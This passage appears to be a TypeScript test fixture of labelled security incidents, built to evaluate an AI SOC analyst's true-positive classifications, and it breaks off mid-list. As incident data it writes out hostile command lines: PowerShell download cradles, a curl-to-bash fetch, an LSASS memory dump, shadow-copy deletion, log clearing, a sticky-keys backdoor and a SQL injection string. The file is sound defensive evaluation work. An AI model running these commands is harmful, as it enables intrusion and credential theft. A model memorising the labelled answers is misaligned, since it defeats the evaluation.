import type { Classification, IncidentAlertContext, IncidentContext, IncidentEntityContext } from '../../../../../src/agents';
import { comment, entity, makeAlert, makeIncident } from '../support/incidentBuilders';

/**
 * Hand-written incidents in the shapes the demo generator and Sentinel produce (see
 * subgraphs/incidents/src/demo/scenarios), each labelled with what a SOC analyst would conclude from
 * the alerts, entities and work notes shown. The label and its reason were written with the case,
 * before the local analyst was run on it.
 */
export interface LabelledIncident {
  id: string;
  label: Exclude<Classification, 'UNDETERMINED'>;
  why: string;
  incident: IncidentContext;
  /** A raw message the analyst attached (user-reported phish), passed to the pipeline as rawEmail. */
  rawEmail?: string;
}

const DOMAIN = 'contoso.example';
const AD = 'corp.contoso.example';
const SID = 'S-1-5-21-2841937755-3312418850-1650044161';

export const user = (account: string, displayName: string, onPremises = false): IncidentEntityContext =>
  entity('Account', account, {
    accountName: account,
    displayName,
    upnSuffix: DOMAIN,
    isDomainJoined: onPremises,
    ...(onPremises ? { ntDomain: 'CONTOSO', dnsDomain: AD, sid: `${SID}-${1100 + account.length * 37}` } : {}),
  });
export const serviceAccount = (name: string): IncidentEntityContext => entity('Account', name, { accountName: name, ntDomain: 'CONTOSO', dnsDomain: AD, isDomainJoined: true });
export const host = (name: string, os = 'Windows 11 23H2', extra: Record<string, unknown> = {}): IncidentEntityContext =>
  entity('Host', name, { hostName: name, netBiosName: name, osFamily: /ubuntu|linux/i.test(os) ? 'Linux' : 'Windows', osVersion: os, isDomainJoined: true, dnsDomain: AD, ntDomain: 'CONTOSO', ...extra });
export const ip = (address: string, location?: Record<string, unknown>): IncidentEntityContext => entity('Ip', address, { address, ...(location ? { location } : {}) });
export const proc = (fileName: string, commandLine: string, elevated = false): IncidentEntityContext =>
  entity('Process', fileName, { processId: '4711', commandLine, creationTimeUtc: '2025-06-01T08:30:00.000Z', elevationToken: elevated ? 'Full' : 'Default' });
export const file = (directory: string, fileName: string): IncidentEntityContext => entity('File', fileName, { directory, fileName });
export const mailbox = (upn: string, displayName: string): IncidentEntityContext => entity('Mailbox', upn, { mailboxPrimaryAddress: upn, displayName, upn });
export const app = (appName: string, appId: number): IncidentEntityContext => entity('CloudApplication', appName, { appName, appId });
export const RU = { countryCode: 'RU', countryName: 'Russia', city: 'Moscow', asn: 64510 };
export const NG = { countryCode: 'NG', countryName: 'Nigeria', city: 'Lagos', asn: 64511 };
export const RO = { countryCode: 'RO', countryName: 'Romania', city: 'Bucharest', asn: 64514 };
export const SEA = { countryCode: 'US', countryName: 'United States', city: 'Seattle', asn: 64500 };

let counter = 0;
export function incident(
  title: string,
  severity: IncidentContext['severity'],
  alerts: IncidentAlertContext[],
  entities: IncidentEntityContext[],
  options: { description?: string; labels?: string[]; comments?: string[] } = {},
): IncidentContext {
  counter += 1;
  return makeIncident({
    id: `eval-${counter}`,
    number: 1000 + counter,
    title,
    description: options.description ?? null,
    severity,
    status: options.comments && options.comments.length > 0 ? 'ACTIVE' : 'NEW',
    labels: options.labels ?? [],
    tactics: [...new Set(alerts.flatMap((alert) => alert.tactics))],
    techniques: [...new Set(alerts.flatMap((alert) => alert.techniques))],
    alertProductNames: [...new Set(alerts.map((alert) => alert.productName))],
    alerts,
    entities,
    comments: (options.comments ?? []).map((message, i) => comment(message, i * 7)),
  });
}

export const at = (minute: number): string => new Date(Date.UTC(2025, 5, 1, 8, minute)).toISOString();

const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

function powershellCradle(hostName: string, account: string): { alerts: IncidentAlertContext[]; entities: IncidentEntityContext[] } {
  return {
    alerts: [
      makeAlert({
        displayName: 'Suspicious PowerShell command line',
        description: `A suspicious PowerShell command line was run on ${hostName}. WINWORD.EXE started powershell.exe with a hidden window and an encoded command, a pattern common in macro-based malware.`,
        severity: 'MEDIUM',
        tactics: ['Execution'],
        techniques: ['T1059', 'T1059.001'],
        timeGenerated: at(10),
      }),
      makeAlert({
        displayName: 'Detected obfuscated command line.',
        description: `Analysis of host data on ${hostName} detected suspicious indicators of obfuscation on the commandline.`,
        severity: 'MEDIUM',
        tactics: ['DefenseEvasion'],
        techniques: ['T1027', 'T1027.010'],
        timeGenerated: at(11),
      }),
    ],
    entities: [
      user(account, 'James Doe', true),
      host(hostName),
      file('C:\\Program Files\\Microsoft Office\\root\\Office16', 'WINWORD.EXE'),
      proc('WINWORD.EXE', `"WINWORD.EXE" /n "C:\\Users\\${account}\\Downloads\\Remittance-Advice.docm"`),
      file('C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 'powershell.exe'),
      proc('powershell.exe', `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/update.ps1')")}`),
      ip('198.51.100.77'),
      entity('Url', 'http://198.51.100.77/update.ps1', { url: 'http://198.51.100.77/update.ps1' }),
    ],
  };
}

function phishDelivery(recipient: string, displayName: string, clicked: boolean, simulation = false) {
  const senderDomain = simulation ? 'secure-docshare.example' : 'contoso-hr-portal.example';
  const url = `https://${senderDomain}/auth/9f3a11be02cd?u=${Buffer.from(recipient).toString('base64url')}`;
  const alerts = [
    makeAlert({
      displayName: 'Email messages containing malicious URL removed after delivery',
      description: `Emails with a malicious URL that were delivered and later removed by zero-hour auto purge. The message "Action required: your password expires today" from ${senderDomain} reached ${recipient}.`,
      productName: 'Microsoft Defender for Office 365',
      severity: 'MEDIUM',
      tactics: ['InitialAccess'],
      techniques: ['T1566', 'T1566.002'],
      timeGenerated: at(5),
    }),
  ];
  if (clicked) {
    alerts.push(
      makeAlert({
        displayName: 'A potentially malicious URL click was detected',
        description: `${recipient} clicked ${url} in the message "Action required: your password expires today" before it was removed. Safe Links allowed the click because the URL was not yet known to be malicious.`,
        productName: 'Microsoft Defender for Office 365',
        severity: 'HIGH',
        tactics: ['Execution'],
        techniques: ['T1204', 'T1204.001'],
        timeGenerated: at(9),
      }),
    );
  }
  const entities = [
    user(recipient.split('@')[0] ?? recipient, displayName),
    mailbox(recipient, displayName),
    ip('203.0.113.61'),
    entity('MailMessage', 'Action required: your password expires today', {
      subject: 'Action required: your password expires today',
      recipient,
      p1Sender: `bounce-7a1c2e@mail.${senderDomain}`,
      p1SenderDomain: `mail.${senderDomain}`,
      p2Sender: `it-support@${senderDomain}`,
      p2SenderDisplayName: 'IT Service Desk',
      p2SenderDomain: senderDomain,
      senderIP: '203.0.113.61',
      urls: [url],
      threats: ['Phish'],
      threatDetectionMethods: ['URL detonation reputation'],
      antispamDirection: 'Inbound',
      deliveryAction: 'Delivered',
      deliveryLocation: 'Inbox',
    }),
    entity('Url', url, { url }),
  ];
  return { alerts, entities };
}

function impossibleTravel(upn: string, displayName: string, away: Record<string, unknown>, awayIp: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'Atypical travel',
        description: `Sign-in from an atypical location based on the user's recent sign-ins: ${upn} signed in from Seattle and 41 minutes later from ${String(away.city)}, ${String(away.countryName)}.`,
        productName: 'Azure Active Directory Identity Protection',
        severity: 'MEDIUM',
        tactics: ['InitialAccess'],
        techniques: ['T1078', 'T1078.004'],
        timeGenerated: at(20),
      }),
    ],
    entities: [user(upn.split('@')[0] ?? upn, displayName), ip('198.51.100.14', SEA), ip(awayIp, away), app('Office 365 Exchange Online', 20893)],
  };
}

function groupAddition(admin: string, member: string, group: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'User account added to built in domain local or global group',
        description: `Identifies when a user account has been added to a privileged built in domain local group or global group such as ${group}.`,
        productName: 'Azure Sentinel',
        severity: 'LOW',
        tactics: ['Persistence', 'PrivilegeEscalation'],
        techniques: ['T1098'],
        timeGenerated: at(30),
      }),
    ],
    entities: [user(admin, 'Noah Wilson', true), user(member, 'Chloe Martin', true), entity('SecurityGroup', group, { distinguishedName: `CN=${group},CN=Users,DC=corp,DC=contoso,DC=example` }), host('CONTOSO-DC-02', 'Windows Server 2022')],
  };
}

function lsassDump(hostName: string, account: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'Detected suspicious execution via rundll32.exe',
        description: `Analysis of host data on ${hostName} detected rundll32.exe being used to call an exported function of comsvcs.dll, a technique attackers use to proxy execution of malicious code through a signed binary.`,
        severity: 'MEDIUM',
        tactics: ['DefenseEvasion'],
        techniques: ['T1218', 'T1218.011'],
        timeGenerated: at(40),
      }),
      makeAlert({
        displayName: 'Possible credential dumping detected',
        description: `Analysis of host data has detected use of a native Windows tool being used in a way that allows to extract credentials from memory on ${hostName}.`,
        severity: 'HIGH',
        tactics: ['CredentialAccess'],
        techniques: ['T1003', 'T1003.001'],
        timeGenerated: at(41),
      }),
    ],
    entities: [
      host(hostName, 'Windows Server 2022'),
      user(account, 'Omar Haddad', true),
      file('C:\\Windows\\System32', 'rundll32.exe'),
      proc('rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\debug.bin full', true),
      ip('10.12.40.7'),
    ],
  };
}

function kerberoasting(workstation: string, account: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'Security principal reconnaissance (LDAP) (external ID 2038)',
        description: `${account} on ${workstation} ran LDAP queries enumerating accounts with a servicePrincipalName against CONTOSO-DC-01.`,
        productName: 'Microsoft Defender for Identity',
        severity: 'MEDIUM',
        tactics: ['Discovery'],
        techniques: ['T1087', 'T1087.002'],
        timeGenerated: at(3),
      }),
      makeAlert({
        displayName: 'Suspected Kerberos SPN exposure (external ID 2410)',
        description: `${account} on ${workstation} requested RC4-encrypted Kerberos service tickets for 3 service accounts (svc_sql, svc_backup, svc_iis) from CONTOSO-DC-01. The tickets can be cracked offline to recover the service account passwords.`,
        productName: 'Microsoft Defender for Identity',
        severity: 'HIGH',
        tactics: ['CredentialAccess'],
        techniques: ['T1558', 'T1558.003'],
        timeGenerated: at(6),
      }),
    ],
    entities: [user(account, 'Liam Murphy', true), host(workstation), host('CONTOSO-DC-01', 'Windows Server 2022'), serviceAccount('svc_sql'), serviceAccount('svc_backup'), serviceAccount('svc_iis'), ip('10.4.18.33')],
  };
}

function serviceInstall(hostName: string, serviceName: string, by: string) {
  const imagePath = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SW52b2tlLVdlYlJlcXVlc3QgaHR0cDovLzIwMy4wLjExMy4xOC9iZWFjb24=')))"`;
  return {
    alerts: [
      makeAlert({
        displayName: 'Suspicious service installed',
        description: `Service ${serviceName} was installed on ${hostName} (event 7045) with an image path that runs a hidden PowerShell command.`,
        productName: 'Azure Sentinel',
        severity: 'MEDIUM',
        tactics: ['Persistence', 'PrivilegeEscalation'],
        techniques: ['T1543', 'T1543.003'],
        timeGenerated: at(50),
      }),
      makeAlert({
        displayName: 'Remote service creation and execution',
        description: `${by} created and started a service on ${hostName} remotely from CONTOSO-WS-0877 over SMB, a common lateral movement technique.`,
        severity: 'MEDIUM',
        tactics: ['LateralMovement', 'Execution'],
        techniques: ['T1021', 'T1021.002', 'T1569', 'T1569.002'],
        timeGenerated: at(51),
      }),
    ],
    entities: [host(hostName, 'Windows Server 2019'), serviceAccount(by), host('CONTOSO-WS-0877'), file('C:\\Windows\\System32', 'sc.exe'), proc('sc.exe', `sc.exe \\\\${hostName} create ${serviceName} binPath= "${imagePath}" start= auto`), ip('10.20.3.44')],
  };
}

function eventLogCleared(hostName: string, account: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'An event log was cleared',
        description: `Machine logs indicate a suspicious event log clearing operation by user: '${account}' in Machine: '${hostName}'. The Security log was cleared.`,
        productName: 'Microsoft Defender for Cloud',
        severity: 'LOW',
        tactics: ['DefenseEvasion'],
        techniques: ['T1070', 'T1070.001'],
        timeGenerated: at(12),
      }),
    ],
    entities: [host(hostName, 'Windows Server 2019'), user(account, 'Hannah Berg', true), file('C:\\Windows\\System32', 'wevtutil.exe'), proc('wevtutil.exe', 'wevtutil.exe cl Security', true)],
  };
}

function dnsTunnel(hostName: string, exfil: boolean) {
  const alerts = [
    makeAlert({
      displayName: 'Potential DNS tunnelling: long subdomain queries',
      description: `${hostName} sent 18244 DNS queries with long random-looking subdomains of t.telemetry-sync.example in one hour, consistent with command and control over DNS.`,
      productName: 'Azure Sentinel',
      severity: 'MEDIUM',
      tactics: ['CommandAndControl'],
      techniques: ['T1071', 'T1071.004', 'T1572'],
      timeGenerated: at(15),
    }),
  ];
  if (exfil) {
    alerts.push(
      makeAlert({
        displayName: 'Unusual volume of outbound DNS data',
        description: `${hostName} sent about 140 MB encoded in DNS query names to t.telemetry-sync.example, far above its baseline.`,
        productName: 'Azure Sentinel',
        severity: 'MEDIUM',
        tactics: ['Exfiltration'],
        techniques: ['T1048', 'T1048.003'],
        timeGenerated: at(25),
      }),
    );
  }
  return {
    alerts,
    entities: [
      host(hostName),
      user('y.sato', 'Yuki Sato', true),
      ip('192.0.2.53', RU),
      entity('DnsResolution', '4f9a0c2e77d14b5fa1e3c9b08d6e2f4a7c1b3d5e9f0a2c4e.t.telemetry-sync.example', { domainName: '4f9a0c2e77d14b5fa1e3c9b08d6e2f4a7c1b3d5e9f0a2c4e.t.telemetry-sync.example' }),
      file('C:\\ProgramData\\Microsoft\\Crypto', 'dnsclient.exe'),
      proc('dnsclient.exe', 'C:\\ProgramData\\Microsoft\\Crypto\\dnsclient.exe --dns domain=t.telemetry-sync.example --secret=9b1f0c77a2e4d6c8'),
    ],
  };
}

function tiMatch(hostName: string, internal: string, external: string, family: string) {
  return {
    alerts: [
      makeAlert({
        displayName: 'Network communication with a malicious machine detected',
        description: `Network traffic analysis indicates that your machine (IP ${internal}) has communicated with what is possibly a command and control center for malware of type ${family} at IP ${external}.`,
        productName: 'Azure Sentinel',
        severity: 'LOW',
        tactics: ['CommandAndControl'],
        techniques: ['T1071', 'T1071.001'],
        timeGenerated: at(33),
      }),
    ],
    entities: [host(hostName), ip(internal), ip(external, RU)],
  };
}

export const INCIDENT_CASES: LabelledIncident[] = [
  // ---------------------------------------------------------------- true positives
  (() => {
    const { alerts, entities } = powershellCradle('CONTOSO-WS-1629', 'j.doe');
    return {
      id: 'powershell-macro-cradle',
      label: 'TRUE_POSITIVE',
      why: 'Macro document spawned hidden encoded PowerShell that downloads a stager; the user confirms the document came by email.',
      incident: incident('Suspicious PowerShell command line on CONTOSO-WS-1629', 'MEDIUM', alerts, entities, {
        description: 'James Doe opened Remittance-Advice.docm on CONTOSO-WS-1629; the document launched an encoded PowerShell download cradle pointing at http://198.51.100.77/update.ps1.',
        labels: ['Malware'],
        comments: [
          'Decoded the -Enc payload: IEX download cradle for http://198.51.100.77/update.ps1. Blocked 198.51.100.77 on the perimeter firewall.',
          'Asked James about Remittance-Advice.docm: arrived as an email attachment this morning from an unknown sender.',
        ],
      }),
    };
  })(),
  {
    id: 'ransomware-lockbit',
    label: 'TRUE_POSITIVE',
    why: 'Double-extension dropper, shadow copies deleted, files encrypted, LockBit identified.',
    incident: incident(
      'Ransomware activity on CONTOSO-LT-0412',
      'HIGH',
      [
        makeAlert({ displayName: 'Suspicious double extension file executed', description: 'Machine logs indicate an execution of a process with a suspicious double extension (Invoice_2024-0917.pdf.exe).', severity: 'HIGH', tactics: ['Execution', 'DefenseEvasion'], techniques: ['T1204.002', 'T1036.007'], timeGenerated: at(1) }),
        makeAlert({ displayName: 'File backups were deleted', description: 'vssadmin.exe deleted all volume shadow copies on CONTOSO-LT-0412. Ransomware deletes backups to prevent recovery of encrypted files.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1490'], timeGenerated: at(4) }),
        makeAlert({ displayName: 'Ransomware behavior detected in the file system', description: 'A process on CONTOSO-LT-0412 encrypted and renamed a large number of user files.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1486'], timeGenerated: at(6) }),
      ],
      [
        user('m.rossi', 'Maria Rossi', true),
        host('CONTOSO-LT-0412'),
        entity('FileHash', 'c0a1d3e5f7b9c2d4e6f8a0b1c3d5e7f9a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6', { algorithm: 'SHA256', hashValue: 'c0a1d3e5f7b9c2d4e6f8a0b1c3d5e7f9a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6' }),
        file('C:\\Users\\m.rossi\\AppData\\Local\\Temp', 'Invoice_2024-0917.pdf.exe'),
        proc('vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', true),
        entity('Malware', 'Ransom:Win32/LockBit', { malwareName: 'Ransom:Win32/LockBit', category: 'Ransomware' }),
      ],
      { labels: ['Ransomware'], comments: ['Isolated CONTOSO-LT-0412. Disabled m.rossi pending investigation.'] },
    ),
  },
  (() => {
    const { alerts, entities } = lsassDump('CONTOSO-JUMP-03', 'o.haddad');
    return {
      id: 'lsass-dump-denied',
      label: 'TRUE_POSITIVE',
      why: 'LSASS dumped with comsvcs MiniDump on a jump host; the account owner denies doing it.',
      incident: incident('Credential dumping from LSASS memory on CONTOSO-JUMP-03', 'HIGH', alerts, entities, {
        labels: ['CredentialTheft'],
        comments: ["o.haddad denies running rundll32 on CONTOSO-JUMP-03. The session came from a VPN address we don't recognise; pulling logon events."],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = kerberoasting('CONTOSO-LT-1377', 'l.murphy');
    return {
      id: 'kerberoasting-rubeus',
      label: 'TRUE_POSITIVE',
      why: 'SPN enumeration then RC4 ticket requests; Rubeus found on the workstation.',
      incident: incident('Kerberoasting from CONTOSO-LT-1377', 'HIGH', alerts, entities, {
        labels: ['CredentialTheft', 'ActiveDirectory'],
        comments: ['Rubeus.exe found in l.murphy\'s Downloads folder on CONTOSO-LT-1377. Nobody on the team knows why it is there.', 'Rotating passwords for svc_sql, svc_backup, svc_iis (all older than two years).'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = phishDelivery('a.okafor@contoso.example', 'Amara Okafor', true);
    return {
      id: 'phish-clicked-credentials',
      label: 'TRUE_POSITIVE',
      why: 'Credential phish from a company-name lookalike, clicked, and the user typed her password.',
      incident: incident('Phishing URL clicked by a.okafor@contoso.example', 'HIGH', alerts, entities, {
        labels: ['Phishing'],
        comments: ['Amara entered her credentials on the fake page; sessions revoked and password reset.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = phishDelivery('t.nowak@contoso.example', 'Tomasz Nowak', false);
    return {
      id: 'phish-delivered',
      label: 'TRUE_POSITIVE',
      why: 'Defender-confirmed credential phish delivered to the inbox (then purged); malicious even without a click.',
      incident: incident('Phishing email with malicious URL delivered to t.nowak@contoso.example', 'MEDIUM', alerts, entities, { labels: ['Phishing'] }),
    };
  })(),
  {
    id: 'bec-forwarding-rule',
    label: 'TRUE_POSITIVE',
    why: 'External forwarding plus a rule hiding payment mails, created from a foreign IP: business email compromise.',
    incident: incident(
      'Suspicious inbox forwarding rule for l.haddadi@contoso.example',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Suspicious inbox forwarding', description: 'l.haddadi@contoso.example created or updated an inbox rule that forwards all incoming email to the external address lhaddadi77@mailbox-drop.example.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1114', 'T1114.003'], timeGenerated: at(2) }),
        makeAlert({ displayName: 'Suspicious inbox manipulation rule', description: 'l.haddadi@contoso.example created an inbox rule that moves messages containing "invoice", "payment" or "wire" to the RSS Subscriptions folder and marks them as read.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['DefenseEvasion'], techniques: ['T1564', 'T1564.008'], timeGenerated: at(3) }),
      ],
      [user('l.haddadi', 'Leila Haddadi'), mailbox('l.haddadi@contoso.example', 'Leila Haddadi'), ip('203.0.113.201', NG), app('Office 365 Exchange Online', 20893)],
      { labels: ['BEC'], comments: ['Removed the rule with Remove-InboxRule. The rule was created from 203.0.113.201 (Lagos); Leila has never signed in from Nigeria. Looks like a stolen session token.'] },
    ),
  },
  {
    id: 'fusion-account-takeover',
    label: 'TRUE_POSITIVE',
    why: 'Fusion correlation of unfamiliar sign-in, inbox manipulation and mass download for one user.',
    incident: incident(
      'Unfamiliar sign-in properties leading to suspicious inbox manipulation and mass file download',
      'HIGH',
      [
        makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'The sign-in of d.khan@contoso.example from 198.51.100.230 (Bucharest, Romania) used properties never seen for this user.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious inbox manipulation rule', description: 'd.khan@contoso.example created an inbox rule that deletes incoming messages from the IT helpdesk and the security team.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['DefenseEvasion'], techniques: ['T1564.008'], timeGenerated: at(20) }),
        makeAlert({ displayName: 'Mass download by a single user', description: 'd.khan@contoso.example downloaded 1840 files from SharePoint Online from 198.51.100.230.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1530'], timeGenerated: at(45) }),
        makeAlert({ displayName: 'Unfamiliar sign-in properties leading to suspicious inbox manipulation and mass file download', description: 'Fusion correlated an unfamiliar sign-in by d.khan@contoso.example from 198.51.100.230 with a suspicious inbox rule and a mass download from SharePoint Online in the following hours.', productName: 'Azure Sentinel', severity: 'HIGH', tactics: ['InitialAccess', 'DefenseEvasion', 'Collection'], techniques: ['T1078.004', 'T1564.008', 'T1530'], timeGenerated: at(46) }),
      ],
      [user('d.khan', 'Diego Khan'), mailbox('d.khan@contoso.example', 'Diego Khan'), ip('198.51.100.230', RO), app('Office 365 Exchange Online', 20893), app('Microsoft SharePoint Online', 20892)],
      { labels: ['Fusion', 'BEC'], description: 'Fusion detected a multistage attack: an unfamiliar sign-in, followed by a suspicious inbox manipulation rule and a mass download of files, for the same user.' },
    ),
  },
  {
    id: 'password-spray-success',
    label: 'TRUE_POSITIVE',
    why: 'Spray of 900 sign-ins from one foreign IP, then a successful sign-in for one account.',
    incident: incident(
      'Password spray attack from 192.0.2.143',
      'HIGH',
      [
        makeAlert({ displayName: 'Password spray', description: 'A password spray attack from 192.0.2.143 tried 904 sign-ins across 96 accounts with a few common passwords.', productName: 'Azure Active Directory Identity Protection', tactics: ['CredentialAccess'], techniques: ['T1110.003'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Successful sign-in after password spray', description: 'p.iyer@contoso.example signed in successfully from 192.0.2.143 after the spray.', productName: 'Azure Sentinel', severity: 'HIGH', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(30) }),
      ],
      [ip('192.0.2.143', RU), user('p.iyer', 'Priya Iyer'), user('k.sato', 'Kenji Sato'), user('f.silva', 'Fatima Silva')],
      { labels: ['Identity', 'BruteForce'] },
    ),
  },
  {
    id: 'cryptominer-linux-vm',
    label: 'TRUE_POSITIVE',
    why: 'curl|bash download then a miner connecting to a stratum pool on an Azure VM.',
    incident: incident(
      'Digital currency mining on contoso-build-vm2',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Suspicious download then run activity', description: 'Analysis of host data on contoso-build-vm2 detected a file being downloaded with curl and piped directly to bash.', productName: 'Microsoft Defender for Cloud', tactics: ['Execution', 'CommandAndControl'], techniques: ['T1059.004', 'T1105'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Digital currency mining related behavior detected', description: 'Analysis of host data on contoso-build-vm2 detected the execution of a process or command normally associated with digital currency mining.', productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1496.001'], timeGenerated: at(12) }),
      ],
      [
        host('contoso-build-vm2', 'Ubuntu 22.04', { isDomainJoined: false, azureID: '/subscriptions/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b/resourceGroups/contoso-prod-rg/providers/Microsoft.Compute/virtualMachines/contoso-build-vm2' }),
        entity('AzureResource', 'contoso-build-vm2', { resourceId: '/subscriptions/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b/resourceGroups/contoso-prod-rg/providers/Microsoft.Compute/virtualMachines/contoso-build-vm2' }),
        entity('Account', 'jenkins', { accountName: 'jenkins', ntDomain: 'contoso-build-vm2', isDomainJoined: false }),
        proc('bash', '/bin/bash -c curl -fsSL http://203.0.113.91/x.sh | bash'),
        proc('kworkerds', '/tmp/.X11-cache/kworkerds -o stratum+tcp://198.51.100.66:3333 -u 4a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 -p x -t 4 --donate-level=1'),
        ip('203.0.113.91'),
        ip('198.51.100.66'),
      ],
      { labels: ['CryptoMining', 'Cloud'], comments: ['CPU on contoso-build-vm2 pinned at 100% since the first alert. Stopped the VM and snapshotted the OS disk.'] },
    ),
  },
  {
    id: 'sticky-keys',
    label: 'TRUE_POSITIVE',
    why: 'IFEO debugger for sethc.exe set to cmd.exe: logon-screen SYSTEM backdoor.',
    incident: incident(
      'Sticky keys backdoor on CONTOSO-APP-07',
      'MEDIUM',
      [makeAlert({ displayName: 'Sticky keys attack detected', description: 'Analysis of host data indicates that an attacker may be subverting an accessibility binary (sticky keys) in order to provide backdoor access to the host CONTOSO-APP-07.', productName: 'Microsoft Defender for Cloud', tactics: ['Persistence', 'PrivilegeEscalation'], techniques: ['T1546.008'], timeGenerated: at(14) })],
      [
        host('CONTOSO-APP-07', 'Windows Server 2016'),
        entity('Account', 'Administrator', { accountName: 'Administrator', ntDomain: 'CONTOSO-APP-07', sid: 'S-1-5-21-1111111111-2222222222-3333333333-500', isDomainJoined: false }),
        entity('RegistryKey', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', { hive: 'HKEY_LOCAL_MACHINE', key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' }),
        entity('RegistryValue', 'Debugger', { valueName: 'Debugger', valueData: 'C:\\Windows\\System32\\cmd.exe', valueType: 'String' }),
        proc('reg.exe', 'reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f', true),
      ],
      { labels: ['Persistence'] },
    ),
  },
  (() => {
    const { alerts, entities } = dnsTunnel('CONTOSO-LT-1127', true);
    return {
      id: 'dns-tunnel-exfil',
      label: 'TRUE_POSITIVE',
      why: 'Unsigned DNS tunnelling tool, long random subdomains and 140 MB out over DNS.',
      incident: incident('Possible DNS tunnelling from CONTOSO-LT-1127', 'MEDIUM', alerts, entities, {
        labels: ['C2'],
        comments: ['dnsclient.exe on CONTOSO-LT-1127 is unsigned and not in the software inventory.', 'Sinkholed t.telemetry-sync.example on the internal resolvers.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = serviceInstall('CONTOSO-SQL-04', 'WinUpdateSvc', 'svc_deploy');
    return {
      id: 'service-install-lateral',
      label: 'TRUE_POSITIVE',
      why: 'Remote creation of a service that runs hidden base64 PowerShell; the platform team did not deploy it.',
      incident: incident('Suspicious service WinUpdateSvc installed on CONTOSO-SQL-04', 'MEDIUM', alerts, entities, {
        labels: ['Persistence'],
        comments: ['Decoded the service binary path: it pulls a beacon from 203.0.113.18. The platform team has no deployment scheduled for CONTOSO-SQL-04 and does not use svc_deploy from workstations.'],
      }),
    };
  })(),
  {
    id: 'sql-injection-reached-db',
    label: 'TRUE_POSITIVE',
    why: 'Tautology injection reached the production database from an external IP.',
    incident: incident(
      'Potential SQL injection on database customers',
      'HIGH',
      [makeAlert({ displayName: 'Potential SQL Injection', description: "Potential SQL injection was detected on your database customers on server contoso-sqlprod02.database.windows.net. Vulnerable statement: SELECT * FROM customers_users WHERE username = 'admin' AND password = '' OR 1=1--'", productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['InitialAccess'], techniques: ['T1190'], timeGenerated: at(22) })],
      [host('contoso-sqlprod02', 'Azure SQL Database', { isDomainJoined: false }), entity('AzureResource', 'customers', { resourceId: '/subscriptions/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b/resourceGroups/contoso-data-rg/providers/Microsoft.Sql/servers/contoso-sqlprod02/databases/customers' }), ip('198.51.100.212', NG)],
      { labels: ['WebApp'], comments: ['Shared the vulnerable statement with the customers application team; the login form concatenates user input into the query.'] },
    ),
  },
  (() => {
    const { alerts, entities } = impossibleTravel('s.reyes@contoso.example', 'Samuel Reyes', NG, '203.0.113.44');
    return {
      id: 'impossible-travel-denied',
      label: 'TRUE_POSITIVE',
      why: 'Sign-in from Lagos 41 minutes after Seattle; the user was not travelling and does not recognise it.',
      incident: incident('Impossible travel activity involving s.reyes@contoso.example', 'MEDIUM', alerts, entities, {
        labels: ['Identity'],
        comments: ['Messaged Samuel on Teams: he was in the Seattle office all day and did not recognise the Lagos sign-in. Sessions revoked, password reset, MFA re-registered.'],
      }),
    };
  })(),
  {
    id: 'azure-gpu-deployment',
    label: 'TRUE_POSITIVE',
    why: 'Unfamiliar sign-in followed by 24 GPU VMs deployed in a new region from the same foreign IP.',
    incident: incident(
      'Anomalous Azure resource deployment by e.clarke@contoso.example',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'The sign-in of e.clarke@contoso.example from 192.0.2.211 used properties never seen for this user.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious number of resource creation or deployment activities', description: 'e.clarke@contoso.example created 24 Standard_NC24ads_A100_v4 virtual machines in brazilsouth within an hour from 192.0.2.211, well above their usual deployment activity.', productName: 'Azure Sentinel', tactics: ['Impact', 'DefenseEvasion'], techniques: ['T1496', 'T1578.002'], timeGenerated: at(35) }),
      ],
